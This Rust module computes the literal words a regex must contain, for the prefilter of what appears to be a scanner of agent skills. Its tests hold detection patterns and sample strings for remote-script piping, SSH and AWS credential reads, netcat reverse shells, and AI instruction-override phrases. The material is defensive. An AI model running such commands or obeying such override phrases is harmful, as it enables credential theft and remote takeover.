//! The literals a regex cannot match without: read from its syntax tree, a set of ASCII words
//! such that every match of the regex holds one of them (case aside). The scanner's prefilter
//! ([`super::prefilter`]) searches a file for these once and runs a pattern only where one is
//! found, so its trigger words are the patterns' own and cannot drift from them.
//!
//! Matching is ASCII case-insensitive: the words are lower case, and a pattern is read as the
//! scanner compiles it (case-insensitively). Non-ASCII text in a pattern is not used as a
//! literal (its case folds are Unicode's); the two non-ASCII characters that fold to ASCII
//! letters are the prefilter's to guard against.
//!
//! A word that the pattern puts after a word boundary (`\bnc`) is marked at its start with
//! [`WORD_EDGE`], one it puts before a boundary (`users?\b`) at its end: the first counts only
//! where a word starts, so `nc` in "function" or "since" calls for nothing, the second only
//! where a word ends, so `user` in "username" does not. A part that always matches a
//! character no word goes on through (`\s+`) marks the words beside it the same way: `log` of
//! `never\s+log\s+` is not found in "catalog".

use regex_syntax::hir::{Class, Hir, HirKind, Look};

use super::found::FOLDS_TO_ASCII;

/// Literals one of which every match of `pattern` contains, lower-case ASCII; `None` when no
/// such set is found (a pattern that can match without any fixed text, such as `\w+`).
pub fn necessary(pattern: &str) -> Option<Vec<String>> {
    let hir = regex_syntax::ParserBuilder::new().build().parse(pattern).ok()?;
    necessary_in(&hir)
}

/// Marks a word's edge as a word's edge: a word that starts with it is found only after a
/// byte that is no ASCII letter, digit or `_` (or at the text's start), one that ends with it
/// only before such a byte (or at the text's end). The pattern has a word boundary there in
/// every match, and the word's character beside it is a word character, so the byte on the
/// other side is none (under the ASCII boundaries the scanner compiles with, and under
/// Unicode's: a character that is a word character in ASCII is one in Unicode too).
pub const WORD_EDGE: char = '\u{1}';

/// The text of a word, without its [`WORD_EDGE`] marks.
pub fn text_of(word: &str) -> &str {
    let word = word.strip_prefix(WORD_EDGE).unwrap_or(word);
    word.strip_suffix(WORD_EDGE).unwrap_or(word)
}

/// Whether a word is found only where a word starts ([`WORD_EDGE`]).
pub fn starts_word(word: &str) -> bool {
    word.starts_with(WORD_EDGE) && !text_of(word).is_empty()
}

/// Whether a word is found only where a word ends ([`WORD_EDGE`]).
pub fn ends_word(word: &str) -> bool {
    word.ends_with(WORD_EDGE) && !text_of(word).is_empty()
}

/// A byte of a word as the ASCII word boundary `(?-u:\b)` reads it: a letter, a digit or `_`.
pub fn is_word_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// A word as it is searched for: the boundaries read into it while its pieces were joined
/// kept only at its edges, beside a word character; others say nothing about the bytes
/// around the word and are dropped.
fn settle(word: String) -> String {
    if !word.contains(WORD_EDGE) {
        return word;
    }
    let text: String = word.chars().filter(|c| *c != WORD_EDGE).collect();
    let start = word.starts_with(WORD_EDGE) && text.bytes().next().is_some_and(is_word_byte);
    let end = word.ends_with(WORD_EDGE) && text.bytes().last().is_some_and(is_word_byte);
    let mark = |on: bool| if on { WORD_EDGE.to_string() } else { String::new() };
    format!("{}{text}{}", mark(start), mark(end))
}

fn necessary_in(hir: &Hir) -> Option<Vec<String>> {
    let need = need(hir)?;
    let mut words: Vec<String> = need.words.into_iter().map(settle).collect();
    if words.is_empty() || words.iter().any(|w| text_of(w).is_empty()) {
        return None;
    }
    fewest_words(&mut words);
    Some(words)
}

/// Sorts the words and drops repeats and every word that holds another: the other finds it.
/// A word marked at an edge finds only words marked the same there ("sh" at a word's start
/// finds "shell", not "bash"; "user" at a word's end, not "users"), as the marks are part of
/// the word.
fn fewest_words(words: &mut Vec<String>) {
    words.sort();
    words.dedup();
    let all = words.clone();
    words.retain(|w| !all.iter().any(|o| o != w && w.contains(o.as_str())));
}

/// What a piece of a pattern needs: one of `words`; `exact` when the piece matches nothing
/// but those words (so it can be joined to its neighbours into longer ones).
#[derive(Clone)]
struct Need {
    words: Vec<String>,
    exact: bool,
}

/// More words than this in a joined set are not worth the search: the set is cut there.
const MAX_WORDS: usize = 64;

/// A class of more characters than this is no literal: its words would multiply a run's.
const FEW_CHARS: usize = 4;

fn exact(word: String) -> Need {
    Need { words: vec![word], exact: true }
}

fn need(hir: &Hir) -> Option<Need> {
    match hir.kind() {
        HirKind::Look(look) if word_boundary(*look) => Some(exact(WORD_EDGE.to_string())),
        HirKind::Empty | HirKind::Look(_) => Some(exact(String::new())),
        HirKind::Literal(lit) => {
            let text = std::str::from_utf8(&lit.0).ok().filter(|t| t.is_ascii())?;
            Some(exact(text.to_ascii_lowercase()))
        }
        HirKind::Class(class) => {
            let chars = few_chars(class)?;
            Some(Need { words: chars.iter().map(char::to_string).collect(), exact: true })
        }
        HirKind::Capture(capture) => need(&capture.sub),
        HirKind::Repetition(rep) => {
            if rep.min == 0 {
                // `x?`: the text `x` matches or nothing, so `keys?` is "key" or "keys".
                return need(&rep.sub)
                    .filter(|sub| sub.exact && rep.max == Some(1) && sub.words.len() < MAX_WORDS)
                    .map(|sub| Need { words: [vec![String::new()], sub.words].concat(), exact: true });
            }
            let sub = need(&rep.sub)?;
            if sub.exact
                && rep.max == Some(rep.min)
                && let [word] = sub.words.as_slice()
            {
                return Some(exact(word.repeat(rep.min as usize)));
            }
            Some(Need { words: sub.words, exact: false })
        }
        HirKind::Alternation(alternatives) => {
            let mut words = Vec::new();
            let mut all_exact = true;
            for alternative in alternatives {
                let n = need(alternative)?;
                all_exact &= n.exact;
                words.extend(n.words);
            }
            Some(Need { words, exact: all_exact })
        }
        HirKind::Concat(parts) => concat(parts),
    }
}

/// Whether `look` holds only at a word's edge: a word character beside it, on one side,
/// has none on the other.
fn word_boundary(look: Look) -> bool {
    matches!(
        look,
        Look::WordAscii
            | Look::WordUnicode
            | Look::WordStartAscii
            | Look::WordStartUnicode
            | Look::WordEndAscii
            | Look::WordEndUnicode
            | Look::WordStartHalfAscii
            | Look::WordStartHalfUnicode
            | Look::WordEndHalfAscii
            | Look::WordEndHalfUnicode
    )
}

/// A concatenation: runs of exact pieces are joined into longer words; the rarest set of
/// words among the runs and the other pieces is what the whole needs.
fn concat(parts: &[Hir]) -> Option<Need> {
    match pieces(parts) {
        Ok(words) => Some(Need { words, exact: true }),
        Err(candidates) => candidates
            .into_iter()
            .min_by(|a, b| rarity(a).total_cmp(&rarity(b)))
            .map(|words| Need { words, exact: false }),
    }
}

/// The sets of words a concatenation needs, each of them: `Ok` with its words when the whole
/// is exact, else every set that some piece or run of exact pieces needs.
fn pieces(parts: &[Hir]) -> Result<Vec<String>, Vec<Vec<String>>> {
    let mut candidates: Vec<Vec<String>> = Vec::new();
    let mut run: Option<Vec<String>> = None;
    let mut all_exact = true;
    // Whether the part before ends with a character no word goes on through (`\s+`): then a
    // run that starts after it starts a word, as if after a word boundary.
    let mut after_edge = false;
    for part in parts {
        let (starts_non_word, ends_non_word) = non_word_edges(part);
        match need(part) {
            Some(n) if n.exact => {
                let joined = match run.take() {
                    None if after_edge => n.words.into_iter().map(|w| format!("{WORD_EDGE}{w}")).collect(),
                    None => n.words,
                    Some(prefixes) if prefixes.len() * n.words.len() <= MAX_WORDS => {
                        prefixes.iter().flat_map(|p| n.words.iter().map(move |w| format!("{p}{w}"))).collect()
                    }
                    Some(prefixes) => {
                        candidates.push(prefixes);
                        all_exact = false;
                        n.words
                    }
                };
                run = Some(joined);
            }
            other => {
                all_exact = false;
                candidates.extend(run.take().map(|words| {
                    if starts_non_word { words.into_iter().map(|w| format!("{w}{WORD_EDGE}")).collect() } else { words }
                }));
                candidates.extend(other.map(|n| n.words));
            }
        }
        after_edge = match part.kind() {
            // A part that may match nothing (`\s*`) keeps the edge before it when its own
            // characters are no word's either.
            HirKind::Repetition(rep) if rep.min == 0 => after_edge && non_word_edges(&rep.sub).1,
            _ => ends_non_word,
        };
    }
    if let Some(words) = run {
        if all_exact {
            return Ok(words);
        }
        candidates.push(words);
    }
    // A candidate is a set of its own, joined to nothing more: its words are settled here.
    let mut candidates: Vec<Vec<String>> =
        candidates.into_iter().map(|words| words.into_iter().map(settle).collect()).collect();
    candidates.retain(|words| !words.is_empty() && !words.iter().any(|w| text_of(w).is_empty()));
    Err(candidates)
}

/// Whether every match of `hir` starts, and whether it ends, with a character that is no
/// ASCII letter, digit or `_` (`\s+`, `[/:]`): a word beside such a part starts or ends
/// there, as beside a word boundary. A part that may match nothing says nothing.
fn non_word_edges(hir: &Hir) -> (bool, bool) {
    match hir.kind() {
        HirKind::Class(class) => {
            let no_word_char = non_word_class(class);
            (no_word_char, no_word_char)
        }
        HirKind::Literal(lit) => {
            let text = std::str::from_utf8(&lit.0).unwrap_or("");
            (text.chars().next().is_some_and(non_word_char), text.chars().next_back().is_some_and(non_word_char))
        }
        HirKind::Capture(capture) => non_word_edges(&capture.sub),
        HirKind::Repetition(rep) if rep.min > 0 => non_word_edges(&rep.sub),
        HirKind::Alternation(alternatives) => {
            alternatives.iter().map(non_word_edges).fold((true, true), |a, b| (a.0 && b.0, a.1 && b.1))
        }
        HirKind::Concat(parts) => match (parts.first(), parts.last()) {
            (Some(first), Some(last)) => (non_word_edges(first).0, non_word_edges(last).1),
            _ => (false, false),
        },
        HirKind::Empty | HirKind::Look(_) | HirKind::Repetition(_) => (false, false),
    }
}

/// Whether a character is no ASCII word character and does not fold to one.
fn non_word_char(c: char) -> bool {
    let ascii_word = c.is_ascii() && is_word_byte(c as u8);
    !ascii_word && !FOLDS_TO_ASCII.contains(&c)
}

/// Whether a class holds no ASCII word character, nor one that folds to one when the
/// pattern is compiled case-insensitively (its other characters' last bytes are none).
fn non_word_class(class: &Class) -> bool {
    class_ranges(class).into_iter().all(|(start, end)| {
        let folds_into_it = FOLDS_TO_ASCII.iter().any(|f| (start..=end).contains(&(*f as u32)));
        !folds_into_it && !(start..=end.min(0x7F)).any(|c| is_word_byte(c as u8))
    })
}

/// Several sets of literals, every one of which a match of `pattern` holds a word of (a
/// conjunction: the verb and the object of a sentence pattern), rarest first; at most `max`
/// sets, none with a word of fewer than four letters but the first (short words are in most
/// sentences: searching for them costs more than they spare; `://` is not). `None` as for
/// [`necessary`].
pub fn necessary_all(pattern: &str, max: usize) -> Option<Vec<Vec<String>>> {
    let hir = regex_syntax::ParserBuilder::new().build().parse(pattern).ok()?;
    necessary_all_in(&hir, max)
}

/// The branches of a pattern's top-level alternation, each with its sets of literals as
/// [`necessary_all`] finds them: every match holds a word of each set of some branch. An
/// alternation's words are otherwise one set of its branches' most common words ("first",
/// "access"), while a branch's own verb and object are rarer together. Branches that need one
/// set each are one branch: one of their words is needed, whichever matches. `None` when a
/// branch has no literal.
pub fn necessary_branches(pattern: &str, max: usize) -> Option<Vec<Vec<Vec<String>>>> {
    let hir = regex_syntax::ParserBuilder::new().build().parse(pattern).ok()?;
    let Some(alternatives) = top_alternatives(&hir) else {
        return Some(vec![necessary_all_in(&hir, max)?]);
    };
    let mut branches: Vec<Vec<Vec<String>>> = Vec::new();
    let mut single: Vec<String> = Vec::new();
    for alternative in &alternatives {
        let mut sets = necessary_all_in(alternative, max)?;
        if let [only] = sets.as_mut_slice() {
            single.append(only);
        } else {
            branches.push(sets);
        }
    }
    if !single.is_empty() {
        fewest_words(&mut single);
        branches.insert(0, vec![single]);
    }
    Some(branches)
}

/// The branches of the pattern's top-level alternation. The parser factors what every branch
/// starts with out of them (`\b(a|b)` for `\ba|\bb`): an alternation inside a concatenation
/// is put back as one concatenation per branch, which matches the same.
fn top_alternatives(hir: &Hir) -> Option<Vec<Hir>> {
    match unwrap_captures(hir).kind() {
        HirKind::Alternation(alternatives) => Some(alternatives.clone()),
        HirKind::Concat(parts) => {
            let at = parts.iter().position(|p| matches!(unwrap_captures(p).kind(), HirKind::Alternation(_)))?;
            let (before, rest) = parts.split_at_checked(at)?;
            let (alternation, after) = rest.split_first()?;
            let HirKind::Alternation(alternatives) = unwrap_captures(alternation).kind() else { return None };
            let with = |alternative: &Hir| {
                let mut joined = before.to_vec();
                joined.push(alternative.clone());
                joined.extend_from_slice(after);
                Hir::concat(joined)
            };
            Some(alternatives.iter().map(with).collect())
        }
        _ => None,
    }
}

fn unwrap_captures(hir: &Hir) -> &Hir {
    let mut top = hir;
    while let HirKind::Capture(capture) = top.kind() {
        top = &capture.sub;
    }
    top
}

fn necessary_all_in(hir: &Hir, max: usize) -> Option<Vec<Vec<String>>> {
    let first = necessary_in(hir)?;
    let top = unwrap_captures(hir);
    let mut sets = vec![first];
    if let HirKind::Concat(parts) = top.kind()
        && let Err(mut candidates) = pieces(parts)
    {
        candidates.sort_by(|a, b| rarity(a).total_cmp(&rarity(b)));
        for words in &mut candidates {
            fewest_words(words);
        }
        // Each candidate all of whose words `fit`, rarest first, up to `max` sets.
        let add_sets = |sets: &mut Vec<Vec<String>>, fit: &dyn Fn(&str) -> bool| {
            for words in &candidates {
                if sets.len() < max && !sets.contains(words) && words.iter().all(|w| fit(w)) {
                    sets.push(words.clone());
                }
            }
        };
        let long_enough = |w: &str| {
            let w = text_of(w);
            w.len() >= 4 || (w.len() >= 3 && !w.bytes().all(|b| b.is_ascii_alphabetic()))
        };
        add_sets(&mut sets, &long_enough);
        // A pattern found by one set alone is found by its most common words ("checks" for
        // "do not log the checks"): a set of three-letter whole words ("not", "log") is
        // rare enough to be a second.
        if sets.len() == 1 {
            let whole_word = |w: &str| starts_word(w) && ends_word(w) && text_of(w).len() >= 3;
            add_sets(&mut sets, &|w| long_enough(w) || whole_word(w));
        }
    }
    Some(sets)
}

/// How often a set of (settled) words may be expected in text: each word about once in
/// 20^length bytes (its text's length, edge marks aside), unless it holds a word measured in skills ([`MEASURED`]). Longer words are rarer;
/// more words are more often found.
fn rarity(words: &[String]) -> f64 {
    let rate = |word: &String| {
        let length = text_of(word).len();
        MEASURED.iter().find(|(common, _)| word.contains(common)).map_or(20f64.powi(-(length as i32)), |m| m.1)
    };
    words.iter().map(rate).sum()
}

/// Words far more common in skills than their length says, with how often they are found
/// (once in so many bytes of a corpus of real skills): a URL's scheme. A word that holds one
/// is taken to be as common, as nearly every `://` follows `http` or `https`; by its length,
/// `https://` would be rarer than any verb, and a sentence with a link would be read for
/// every pattern with one.
const MEASURED: &[(&str, f64)] = &[("://", 1.0 / 390.0), ("http", 1.0 / 380.0)];

/// The characters of a class of a few ASCII characters (`[ _-]`), each letter once for its
/// cases (and the non-ASCII characters that fold to it: see the module's note).
fn few_chars(class: &Class) -> Option<Vec<char>> {
    let mut chars: Vec<char> = Vec::new();
    for (start, end) in class_ranges(class) {
        // A wider range is more characters than a few, whatever their cases.
        if end - start >= FEW_CHARS as u32 {
            return None;
        }
        for c in (start..=end).filter_map(char::from_u32).filter(|c| !FOLDS_TO_ASCII.contains(c)) {
            if !c.is_ascii() {
                return None;
            }
            let c = c.to_ascii_lowercase();
            if !chars.contains(&c) {
                chars.push(c);
            }
        }
        if chars.len() > FEW_CHARS {
            return None;
        }
    }
    // A class of the folding characters alone has no ASCII word to be found by.
    (!chars.is_empty()).then_some(chars)
}

/// A class's ranges of characters (or bytes), as code points.
fn class_ranges(class: &Class) -> Vec<(u32, u32)> {
    match class {
        Class::Unicode(c) => c.ranges().iter().map(|r| (r.start() as u32, r.end() as u32)).collect(),
        Class::Bytes(c) => c.ranges().iter().map(|r| (u32::from(r.start()), u32::from(r.end()))).collect(),
    }
}

#[cfg(test)]
// Tests index their own fixed fixtures.
#[allow(clippy::indexing_slicing, clippy::string_slice)]
mod tests {
    use super::necessary;

    /// A pattern's literals, each edge mark written `\b`.
    fn words(pattern: &str) -> Vec<String> {
        shown(&necessary(pattern).unwrap_or_else(|| panic!("no literals in {pattern}")))
    }

    fn shown(words: &[String]) -> Vec<String> {
        words.iter().map(|w| w.replace(super::WORD_EDGE, r"\b")).collect()
    }

    #[test]
    fn literals_are_joined_and_the_rarest_set_is_kept() {
        assert_eq!(words(r"\b(iex|invoke-expression)\b"), [r"\biex\b", r"\binvoke-expression\b"]);
        assert_eq!(words(r"\.(bash|zsh)_history\b"), [r".bash_history\b", r".zsh_history\b"]);
        assert_eq!(words(r"login\s?data"), ["login"]);
        assert_eq!(words(r"(?i:api[ _-]?key)\s*=\s*\w+"), ["api key", "api-key", "api_key", "apikey"]);
        assert_eq!(words(r"\btokens?\b"), [r"\btoken\b", r"\btokens\b"]);
        assert_eq!(words(r"\bdon'?t\b"), [r"\bdon't\b", r"\bdont\b"]);
        assert_eq!(words(r"\b(sessions?|chats?)\b"), [r"\bchat\b", r"\bchats\b", r"\bsession\b", r"\bsessions\b"]);
        assert_eq!(words(r"x{3}y"), ["xxxy"]);
        assert_eq!(words(r"%0\s*\|\s*%0"), ["%0"]);
    }

    #[test]
    fn a_part_of_non_word_characters_marks_the_edges_beside_it() {
        assert_eq!(words(r"x\s+(keep|retain)\s+y"), [r"\bkeep\b", r"\bretain\b"]);
        assert_eq!(words(r"[/:.,;]+data\b"), [r"\bdata\b"]);
        assert_eq!(words(r"(\s+|[/:.,;])data"), [r"\bdata"]);
        // What may match nothing, a word character, or one that folds to one says nothing.
        assert_eq!(words(r"\s*data\s?"), ["data"]);
        assert_eq!(words(r"(\s+|x)data"), ["data"]);
        assert_eq!(words(r"[\s\x{212A}]+data"), ["data"]);
        assert_eq!(words(r"\x{17F}+data"), ["data"]);
        assert_eq!(words(r"\w+data\W+"), [r"data\b"]);
        // An optional part of such characters keeps the edge before it.
        assert_eq!(words(r"\$\(\s*curl\s"), [r"\bcurl\b"]);
        assert_eq!(words(r"x\s*curl\s"), [r"curl\b"]);
    }

    #[test]
    fn a_sentence_pattern_needs_its_verb_and_its_object() {
        let sets = super::necessary_all(r"\b(download|fetch)\b.{0,100}?((https?|ftp)://\S+)", 3).unwrap();
        let sets: Vec<Vec<String>> = sets.iter().map(|set| shown(set)).collect();
        assert_eq!(sets, [vec![r"\bdownload\b", r"\bfetch\b"], vec!["ftp://", "http://", "https://"]]);
    }

    #[test]
    fn each_branch_of_an_alternation_needs_its_own_words() {
        let branches =
            super::necessary_branches(r"(\bignore\b.{0,40}\binstructions\b|\bsystem-prompt\b|\boverride\b)", 3)
                .unwrap();
        let branches: Vec<Vec<Vec<String>>> =
            branches.iter().map(|sets| sets.iter().map(|set| shown(set)).collect()).collect();
        assert_eq!(
            branches,
            [vec![vec![r"\boverride\b", r"\bsystem-prompt\b"]], vec![vec![r"\binstructions\b"], vec![r"\bignore\b"]]],
            "one-set branches joined, a two-set branch kept apart"
        );
        assert!(super::necessary_branches(r"abc|\w+", 3).is_none());
        assert_eq!(super::necessary_branches(r"download.*://", 3).unwrap().len(), 1);
    }

    #[test]
    fn patterns_without_fixed_text_have_none() {
        assert!(necessary(r"\w+").is_none());
        assert!(necessary(r"(abc)?def|\d+").is_none());
        assert!(necessary(r"[a-z]{4}").is_none());
        assert!(necessary("caf\u{E9}").is_none());
    }

    #[test]
    fn every_match_holds_a_literal() {
        let cases = [
            r"\b(curl|wget)\s+-fsSL?\s+https?://\S+",
            r"(~/\.ssh\b|\.aws/credentials|\bid_(rsa|dsa)\b|\bkeychains?\b)",
            r"(?i:\b(api[ _-]?key|password)\b[^:=\n]{0,30}?(:|=))",
            r"\b(don'?t|never)\s+(ask|prompt)\s+(the\s+)?users?\b",
            r"\bkeep(s|ing)?\b.{0,60}?\b(tokens?|api[ _-]?keys?)\b",
            r"\b(nc|ncat|netcat)(\.exe)?\b[^|;&\n]*\s-[a-z]*[ec]\s*[^\s]*\b(sh|bash|cmd)\b",
            // No boundary: the word counts inside another.
            r"(curl|wget)\s+https?://",
            r"\bsecret[a-z]*\s*=",
            r"\b(do\s+not|never)\s+(log|keep)\s+(them|it)\b",
            r"[\s\x{212A}]+log\s+it",
            r"(<\(|\$\()\s*(curl|irm)\s+\S",
        ];
        let texts = [
            "curl -fsS https://e.x/a.sh",
            "WGET -fsSL http://x",
            "cat ~/.ssh/config",
            "read .AWS/credentials",
            "id_dsa",
            "Keychain",
            "API-Key: abc",
            "Password =",
            "Dont ask users",
            "don't PROMPT the user",
            "never ask user",
            "keeping the API_KEYS",
            "Keeps an apikey",
            "keep tokens",
            "nc -e /bin/sh",
            "(ncat.exe -lvp 4444 -e cmd)",
            "a function since once -e bash",
            "pycurl https://x",
            "secrets = 1",
            "secret = 2",
            "wget http://x",
            "nothing here",
            "Do not LOG it",
            "never\tkeep them",
            "do not catalog it",
            "\u{212A}log it",
            "klog it",
            "bash <(curl https://x)",
            "x=$(  IRM\thttps://x)",
            "<(confirm x)",
            " log it",
        ];
        for pattern in cases {
            let re = regex::RegexBuilder::new(pattern).case_insensitive(true).build().unwrap();
            let mut sets = super::necessary_all(pattern, 3).expect("literals");
            sets.push(necessary(pattern).expect("literals"));
            let mut matched = 0;
            for text in texts.iter().filter(|text| re.is_match(text)) {
                matched += 1;
                let lower = text.to_ascii_lowercase();
                // Where a word is: anywhere, or where a word starts when it is marked so.
                let holds = |word: &String| {
                    let text = super::text_of(word);
                    let bytes = lower.as_bytes();
                    lower.match_indices(text).any(|(at, _)| {
                        let end = at + text.len();
                        (!super::starts_word(word) || at == 0 || !super::is_word_byte(bytes[at - 1]))
                            && (!super::ends_word(word) || end == bytes.len() || !super::is_word_byte(bytes[end]))
                    })
                };
                for literals in &sets {
                    assert!(literals.iter().any(holds), "{pattern} on {text}: {literals:?}");
                }
            }
            assert!(matched >= 2, "{pattern} should match some of the texts");
        }
    }
}
